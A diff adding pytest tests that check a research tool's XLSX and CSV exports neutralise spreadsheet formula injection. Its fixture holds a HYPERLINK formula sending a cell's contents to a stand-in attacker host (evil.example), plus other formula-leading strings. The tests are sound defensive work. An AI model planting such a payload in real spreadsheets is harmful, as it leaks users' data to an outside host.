@@ -97,3 +97,63 @@ def test_bad_targets_are_refused(project: Project, tmp_path: Path) -> None:
         project.export_csv(tmp_path / "file")
     with pytest.raises(BadInput, match="does not exist"):
         project.export_csv(tmp_path / "no" / "such" / "dir")
+
+
+HOSTILE = {"site": '=HYPERLINK("http://evil.example/?"&A1,"klik")', "title": "+SUM(1,2)",
+           "code": "@Technologie", "quote": "=1+2 is de maat", "memo": "-2+3 of zo",
+           "coder": "=Eva"}
+
+
+def _hostile(tmp_path: Path) -> Project:
+    project = Project.create(tmp_path / "Hostile.fieldkit")
+    project.set_coder(HOSTILE["coder"], remember=False)
+    text = HOSTILE["quote"] + ", zegt Jan\x0b bij de pers."
+    project.add_note(site=HOSTILE["site"], title=HOSTILE["title"], text=text)
+    project.add_code(HOSTILE["code"])
+    coding = project.code_text(1, 0, len(HOSTILE["quote"]), HOSTILE["code"])
+    project.set_coding_memo(coding.id, HOSTILE["memo"])
+    project.code_text(1, 0, len(text), HOSTILE["code"])  # the whole text, with \x0b in it
+    return project
+
+
+def test_xlsx_cells_that_look_like_formulas_stay_text(tmp_path: Path) -> None:
+    with _hostile(tmp_path) as project:
+        out = project.export_xlsx(tmp_path / "t.xlsx")
+    book = openpyxl.load_workbook(out)
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    segments = _rows(book["Segments"])
+    first = next(r for r in segments if r["Memo"] == HOSTILE["memo"])
+    assert first["Quote"] == HOSTILE["quote"]  # the very quote, not a formula or "'=..."
+    assert (first["Site"], first["Document"], first["Code"], first["Coder"]) == (
+        HOSTILE["site"], HOSTILE["title"], HOSTILE["code"], HOSTILE["coder"])
+    whole = next(r for r in segments if not r["Memo"])
+    assert whole["Quote"] == HOSTILE["quote"] + ", zegt Jan\ufffd bij de pers."
+    header = next(book["Codes x documents"].iter_rows(values_only=True))
+    assert HOSTILE["code"] in header
+
+
+def test_csv_cells_that_look_like_formulas_are_escaped(tmp_path: Path) -> None:
+    with _hostile(tmp_path) as project:
+        project.export_csv(tmp_path / "csv")
+    for path in (tmp_path / "csv").glob("*.csv"):
+        with open(path, encoding="utf-8-sig", newline="") as f:
+            cells = [c for row in csv.reader(f) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], path.name
+    with open(tmp_path / "csv" / "segments.csv", encoding="utf-8-sig", newline="") as f:
+        row = next(r for r in csv.DictReader(f) if r["Memo"] == "'" + HOSTILE["memo"])
+    assert row["Quote"] == "'" + HOSTILE["quote"]
+    assert (row["Site"], row["Document"], row["Code"]) == (
+        "'" + HOSTILE["site"], "'" + HOSTILE["title"], "'" + HOSTILE["code"])
+    with open(tmp_path / "csv" / "code_by_document.csv", encoding="utf-8-sig") as f:
+        assert "'" + HOSTILE["code"] in next(csv.reader(f))
+
+
+def test_team_workbooks_write_text_as_text(tmp_path: Path) -> None:
+    with _hostile(tmp_path) as project:
+        out = project.export_blind_xlsx(HOSTILE["coder"], tmp_path / "blind.xlsx")
+    book = openpyxl.load_workbook(out)
+    cells = [c for row in book.active.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    assert {HOSTILE["quote"], HOSTILE["code"], HOSTILE["title"], HOSTILE["memo"]} <= values
